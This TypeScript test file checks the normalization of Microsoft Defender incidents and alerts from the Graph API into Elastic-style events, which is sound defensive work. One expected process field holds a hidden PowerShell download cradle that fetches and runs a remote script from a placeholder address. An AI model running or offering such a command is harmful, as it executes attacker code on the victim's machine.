import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, it } from 'node:test';
import { normalizeAlert } from '../../shared/normalize/graph/alert';
import { graphEventId, snakeCase } from '../../shared/normalize/graph/common';
import { normalizeIncident } from '../../shared/normalize/graph/incident';
import { fixture } from './harness';

const TID = '6f1d3c2a-9b4e-4c1f-8a7d-2e5b9c0d1f34';
const sha32 = (s: string) => createHash('sha256').update(s).digest('hex').slice(0, 32);

describe('Graph incident normalization (shipped fixtures)', () => {
  it('maps an active incident exactly', () => {
    const inc = fixture('incident-active.json');
    const ev = normalizeIncident(inc, { tenantId: 'polled-tenant', messageIndex: 3 });
    assert.deepEqual(ev, {
      '@timestamp': '2025-02-07T19:01:26.123Z',
      message: 'Multi-stage incident involving Initial access & Command and control on one endpoint',
      event: {
        kind: 'alert',
        type: ['info'],
        action: 'active',
        dataset: 'm365_defender.incident',
        id: sha32('incidents|4711|2025-02-07T19:01:26.1234567Z'),
        severity: 73,
        created: '2025-02-07T18:55:02.446Z',
        provider: 'microsoftDefenderXdr',
        module: 'm365_defender',
        category: ['malware'],
      },
      observer: { vendor: 'Microsoft', product: 'Defender XDR', type: 'xdr' },
      cloud: { account: { id: TID }, provider: 'azure' },
      m365_defender: {
        incident: {
          odata_type: '#microsoft.graph.security.incident',
          id: '4711',
          incident_web_url: `https://security.microsoft.com/incidents/4711?tid=${TID}`,
          tenant_id: TID,
          display_name: 'Multi-stage incident involving Initial access & Command and control on one endpoint',
          created_datetime: '2025-02-07T18:55:02.4466667Z',
          last_update_datetime: '2025-02-07T19:01:26.1234567Z',
          assigned_to: 'soc-analyst@fabrikam.example',
          classification: 'TruePositive',
          determination: 'Malware',
          status: 'Active',
          severity: 'High',
          custom_tags: ['Tier1'],
          system_tags: ['Defender Experts'],
          description: 'Malware delivered by e-mail and executed on one endpoint.',
          comments: [{ comment: 'Escalated to tier 2', createdBy: 'tier1@fabrikam.example', createdTime: '2025-02-07T19:00:01.2756993Z' }],
        },
      },
      forwarder: { provenance: { source: 'graph', resource: 'incidents', tenantId: TID, messageIndex: 3 } },
      related: { user: ['soc-analyst@fabrikam.example', 'tier1@fabrikam.example'] },
    });
  });

  it('an expanded incident links its alert ids and gathers their techniques; informational scores 1', () => {
    const ev = normalizeIncident(fixture('incident-expanded.json'), { tenantId: TID, messageIndex: 0 });
    const detail = ev.m365_defender.incident as Record<string, unknown>;
    assert.deepEqual(detail.alert_ids, ['da1b2c3d4e-5f60-4718-9a0b-1c2d3e4f5a6b_1', 'da9f8e7d6c-5b4a-4392-8170-6f5e4d3c2b1a_1']);
    assert.equal(detail.alerts, undefined);
    assert.deepEqual(ev.threat, { framework: 'MITRE ATT&CK', technique: { id: ['T1059.001', 'T1105'] } });
    assert.equal(ev.event.severity, 1);
    assert.equal(ev.event.action, 'resolved');
    assert.equal(ev.event.category, undefined);
    assert.equal(ev['@timestamp'], '2025-02-07T20:10:00.500Z');
    assert.equal(detail.last_update_datetime, '2025-02-07T20:10:00.5Z');
    assert.equal(detail.assigned_to, undefined, 'nulls are dropped');
  });

  it('uses the polled tenant when the object has no tenantId, and "updated" when it has no status', () => {
    const ev = normalizeIncident({ id: '9', lastUpdateDateTime: '2025-01-01T00:00:00Z' }, { tenantId: 'polled', messageIndex: 0 });
    assert.deepEqual(ev.cloud, { account: { id: 'polled' }, provider: 'azure' });
    assert.equal(ev.event.action, 'updated');
    assert.equal(ev.event.severity, undefined);
    assert.throws(() => normalizeIncident({ id: '9' }, { tenantId: 'x', messageIndex: 0 }), /no valid lastUpdateDateTime/);
  });
});

describe('Graph alert normalization (shipped fixtures)', () => {
  it('maps an endpoint alert with device, user, process, file, ip, url and unknown evidence exactly', () => {
    const alert = fixture('alert-endpoint.json');
    const ev = normalizeAlert(alert, { tenantId: 'polled-tenant', messageIndex: 7 });
    const id = 'da1b2c3d4e-5f60-4718-9a0b-1c2d3e4f5a6b_1';
    assert.deepEqual(ev, {
      '@timestamp': '2025-02-07T20:09:59.999Z',
      message: 'Suspicious PowerShell download cradle',
      event: {
        kind: 'alert',
        type: ['info'],
        action: 'inProgress',
        dataset: 'm365_defender.alert',
        id: sha32(`alerts_v2|${id}|2025-02-07T20:09:59.9999999Z`),
        severity: 47,
        created: '2025-02-07T20:01:09.883Z',
        provider: 'microsoftDefenderForEndpoint',
        module: 'm365_defender',
        category: ['file', 'host', 'iam', 'network', 'process'],
      },
      observer: { vendor: 'Microsoft', product: 'microsoftDefenderForEndpoint', type: 'xdr' },
      cloud: { account: { id: TID }, provider: 'azure' },
      rule: { name: 'Suspicious PowerShell download cradle', id: '0f2a5b1c-6d7e-4f80-9a1b-2c3d4e5f6a7b', description: 'PowerShell downloaded and ran a remote script.' },
      m365_defender: {
        alert: {
          odata_type: '#microsoft.graph.security.alert',
          id,
          provider_alert_id: '1b2c3d4e-5f60-4718-9a0b-1c2d3e4f5a6b_1',
          incident_id: '4712',
          status: 'inProgress',
          severity: 'medium',
          service_source: 'microsoftDefenderForEndpoint',
          detection_source: 'microsoftDefenderForEndpoint',
          product_name: 'Microsoft Defender for Endpoint',
          detector_id: '0f2a5b1c-6d7e-4f80-9a1b-2c3d4e5f6a7b',
          tenant_id: TID,
          title: 'Suspicious PowerShell download cradle',
          description: 'PowerShell downloaded and ran a remote script.',
          recommended_actions: 'Review the process tree.',
          category: 'CommandAndControl',
          assigned_to: 'soc-analyst@fabrikam.example',
          alert_web_url: `https://security.microsoft.com/alerts/${id}?tid=${TID}`,
          incident_web_url: `https://security.microsoft.com/incidents/4712?tid=${TID}`,
          mitre_techniques: ['T1059.001', 'T1105'],
          created_datetime: '2025-02-07T20:01:09.8839373Z',
          last_update_datetime: '2025-02-07T20:09:59.9999999Z',
          first_activity_datetime: '2025-02-07T19:59:39.5154802Z',
          last_activity_datetime: '2025-02-07T19:59:41.9939003Z',
        },
        incident: { id: '4712' },
      },
      forwarder: { provenance: { source: 'graph', resource: 'alerts_v2', tenantId: TID, messageIndex: 7 } },
      host: {
        name: 'ws-0042.fabrikam.example',
        id: '7c4f9e2b1a3d5e6f708192a3b4c5d6e7f8091a2b',
        ip: ['10.20.30.40', 'fe80::1c2d:3e4f:5a6b:7c8d', '127.0.0.1'],
        os: { name: 'Windows11', version: '23H2' },
      },
      related: {
        hosts: ['ws-0042.fabrikam.example', '7c4f9e2b1a3d5e6f708192a3b4c5d6e7f8091a2b'],
        ip: ['10.20.30.40', 'fe80::1c2d:3e4f:5a6b:7c8d', '203.0.113.7'],
        user: ['jdoe', 'jdoe@fabrikam.example', 'S-1-5-21-1111111111-2222222222-3333333333-1104', '5e6f7a8b-9c0d-4e1f-a2b3-c4d5e6f7a8b9', 'soc-analyst@fabrikam.example'],
        hash: [
          'a72c41316307889e43fe8605a0dca4a72e72a011',
          'd783ba6567faf10fdff2d0ea3864f6756862d6c733c7f4467283da81aedc3a80',
          '44d88612fea8a8f36de82e1278abb02f',
          '3395856ce81f2b7382dee72602f798b642f14140',
          '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f',
        ],
      },
      user: { name: 'jdoe', domain: 'FABRIKAM', id: 'S-1-5-21-1111111111-2222222222-3333333333-1104', email: 'jdoe@fabrikam.example', full_name: 'Jane Doe' },
      process: {
        pid: 8224,
        start: '2025-02-07T19:59:39.499Z',
        name: 'powershell.exe',
        executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        hash: { sha1: 'a72c41316307889e43fe8605a0dca4a72e72a011', sha256: 'd783ba6567faf10fdff2d0ea3864f6756862d6c733c7f4467283da81aedc3a80' },
        command_line: 'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/a.ps1\')"',
        user: { name: 'jdoe', domain: 'FABRIKAM', id: 'S-1-5-21-1111111111-2222222222-3333333333-1104' },
        parent: { pid: 5772, start: '2025-02-07T19:59:19.506Z', name: 'cmd.exe', executable: 'C:\\Windows\\System32\\cmd.exe' },
      },
      file: {
        name: 'a.ps1',
        directory: 'C:\\Users\\jdoe\\AppData\\Local\\Temp',
        path: 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\a.ps1',
        size: 68,
        hash: { md5: '44d88612fea8a8f36de82e1278abb02f', sha1: '3395856ce81f2b7382dee72602f798b642f14140', sha256: '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f' },
      },
      url: { original: 'http://203.0.113.7/a.ps1', domain: '203.0.113.7' },
      threat: { framework: 'MITRE ATT&CK', technique: { id: ['T1059.001', 'T1105'] }, tactic: { name: ['Command and Control'] } },
    });
  });

  it('maps an Office alert: mailbox and analyzed message evidence onto user, email and related', () => {
    const ev = normalizeAlert(fixture('alert-office.json'), { tenantId: TID, messageIndex: 0 });
    assert.equal(ev.observer.product, 'microsoftDefenderForOffice365');
    assert.equal(ev.event.severity, 21);
    assert.deepEqual(ev.event.category, ['email', 'network']);
    assert.deepEqual(ev.user, { name: 'alex', domain: 'fabrikam.example', id: 'S-1-5-21-1111111111-2222222222-3333333333-1201', email: 'alex@fabrikam.example', full_name: 'Alex Wilber' });
    assert.deepEqual(ev.email, {
      message_id: '<PH0PR11MB1234.namprd11.prod.outlook.com>',
      subject: 'Invoice overdue',
      from: { address: ['billing@contoso-invoices.example'] },
      sender: { address: 'billing@contoso-invoices.example' },
      to: { address: ['alex@fabrikam.example'] },
      direction: 'inbound',
      delivery_timestamp: '2025-02-08T07:10:11.444Z',
    });
    assert.deepEqual(ev.related, {
      user: ['alex@fabrikam.example', 'alex', 'S-1-5-21-1111111111-2222222222-3333333333-1201', 'aa11bb22-cc33-4d44-8e55-ff6677889900', 'billing@contoso-invoices.example'],
      ip: ['198.51.100.23'],
    });
    assert.deepEqual(ev.url, { original: 'https://contoso-invoices.example/pay', domain: 'contoso-invoices.example' });
    assert.deepEqual(ev.threat, { framework: 'MITRE ATT&CK', technique: { id: ['T1566.002'] }, tactic: { name: ['Initial Access'] } });
    assert.equal(ev['@timestamp'], '2025-02-08T07:20:00.000Z');
    assert.equal(ev.event.created, '2025-02-08T07:15:00.120Z');
  });

  it('event.id is one per version: same object and time -> same id, new lastUpdateDateTime -> new id', () => {
    const a = fixture('alert-office.json');
    const e1 = normalizeAlert(a, { tenantId: TID, messageIndex: 0 });
    const e2 = normalizeAlert({ ...a }, { tenantId: TID, messageIndex: 5 });
    const e3 = normalizeAlert({ ...a, lastUpdateDateTime: '2025-02-08T07:20:00.0000001Z' }, { tenantId: TID, messageIndex: 0 });
    assert.equal(e1.event.id, e2.event.id);
    assert.notEqual(e1.event.id, e3.event.id);
    assert.equal(e1.event.id, graphEventId('alerts_v2', String(a.id), String(a.lastUpdateDateTime)));
    assert.match(e1.event.id, /^[0-9a-f]{32}$/);
  });

  it('snake_case names follow Elastic (datetime, odata_type)', () => {
    assert.equal(snakeCase('lastUpdateDateTime'), 'last_update_datetime');
    assert.equal(snakeCase('@odata.type'), 'odata_type');
    assert.equal(snakeCase('mdeDeviceId'), 'mde_device_id');
    assert.equal(snakeCase('incidentWebUrl'), 'incident_web_url');
  });
});

/* Optional conformance against the reference samples, when the read-only workspace is present. */
const SAMPLES = '/work/shared/samples';
const haveSamples = existsSync(path.join(SAMPLES, 'ecs-expected', 'incident'));

describe('conformance with Elastic expected output (/work/shared/samples)', { skip: haveSamples ? false : `skipped: ${SAMPLES} is not present (it is not shipped with the repo)` }, () => {
  function lines(file: string): Record<string, unknown>[] {
    return readFileSync(file, 'utf8').split('\n').filter((l) => l.trim()).map((l) => JSON.parse(l) as Record<string, unknown>).filter((o) => typeof o.id === 'string');
  }

  it('incidents: message, @timestamp, cloud.account.id, kind, severity and created agree with Elastic', () => {
    const dir = path.join(SAMPLES, 'ecs-expected', 'incident');
    const input = lines(path.join(dir, 'test-incident-no-alerts.log'));
    const expected = (JSON.parse(readFileSync(path.join(dir, 'test-incident-no-alerts.log-expected.json'), 'utf8')) as { expected: Array<Record<string, any>> }).expected;
    assert.equal(input.length, expected.length);
    input.forEach((inc, i) => {
      const ev = normalizeIncident(inc, { tenantId: 'x', messageIndex: i });
      const ex = expected[i];
      assert.equal(ev.message, ex.message);
      assert.equal(ev['@timestamp'], ex['@timestamp']);
      assert.equal(ev.cloud?.account.id, ex.cloud.account.id);
      assert.equal(ev.event.kind, ex.event.kind);
      assert.equal(ev.event.severity, ex.event.severity);
      assert.equal(ev.event.created, ex.event.created);
      if (ex.event.category) assert.deepEqual(ev.event.category, ex.event.category);
    });
  });

  it('alerts: kind, @timestamp, created, technique ids, tactic, host id, hashes and process agree with Elastic', () => {
    const dir = path.join(SAMPLES, 'ecs-expected', 'alert');
    const input = lines(path.join(dir, 'test-alert.log'));
    const expected = (JSON.parse(readFileSync(path.join(dir, 'test-alert.log-expected.json'), 'utf8')) as { expected: Array<Record<string, any>> }).expected.filter((e) => e && e.m365_defender);
    assert.ok(input.length >= 1);
    input.slice(0, expected.length).forEach((a, i) => {
      const ev = normalizeAlert(a, { tenantId: 'x', messageIndex: i });
      const ex = expected[i];
      assert.equal(ev.event.kind, 'alert');
      assert.equal(ev['@timestamp'], ex['@timestamp']);
      assert.equal(ev.event.created, ex.event.created);
      assert.equal(ev.cloud?.account.id, ex.cloud.account.id);
      const exTech = [...(ex.threat?.technique?.id ?? []), ...(ex.threat?.technique?.subtechnique?.id ?? [])];
      assert.deepEqual([...(ev.threat?.technique?.id ?? [])].sort(), exTech.sort());
      assert.deepEqual(ev.threat?.tactic?.name, ex.threat.tactic.name);
      if (ex.host?.id) assert.equal(ev.host?.id, ex.host.id[0]);
      if (ex.process?.pid) assert.equal(ev.process?.pid, ex.process.pid[0]);
      if (ex.process?.command_line) assert.equal(ev.process?.command_line, ex.process.command_line[0]);
      for (const h of ex.related?.hash ?? []) assert.ok(ev.related?.hash?.includes(h), `hash ${h}`);
      for (const ip of ex.related?.ip ?? []) assert.ok(ev.related?.ip?.includes(ip) || ev.host?.ip?.includes(ip), `ip ${ip}`);
    });
  });

  it('every Graph sample object normalizes without error and keeps id and full-precision lastUpdateDateTime', () => {
    const dir = path.join(SAMPLES, 'graph');
    const objs: Array<{ o: Record<string, unknown>; kind: 'incident' | 'alert' }> = [];
    for (const f of ['incidents-no-alerts.ndjson', 'incidents-elastic-split.ndjson']) for (const o of lines(path.join(dir, f))) objs.push({ o, kind: 'incident' });
    for (const f of ['alerts_v2-docs-example.ndjson', 'alerts_v2-tenant-like.ndjson']) for (const o of lines(path.join(dir, f))) objs.push({ o, kind: 'alert' });
    for (const f of ['list-incidents.docs-response.json', 'list-alerts_v2.docs-response.json']) {
      const body = JSON.parse(readFileSync(path.join(dir, f), 'utf8')) as { value: Record<string, unknown>[] };
      for (const o of body.value) objs.push({ o, kind: f.includes('incidents') ? 'incident' : 'alert' });
    }
    assert.ok(objs.length >= 6);
    for (const { o, kind } of objs) {
      const ev = kind === 'incident' ? normalizeIncident(o, { tenantId: 'x', messageIndex: 0 }) : normalizeAlert(o, { tenantId: 'x', messageIndex: 0 });
      const detail = ev.m365_defender[kind] as Record<string, unknown>;
      assert.equal(detail.id, o.id);
      assert.equal(detail.last_update_datetime, o.lastUpdateDateTime);
      assert.equal(ev.event.kind, 'alert');
    }
  });
});
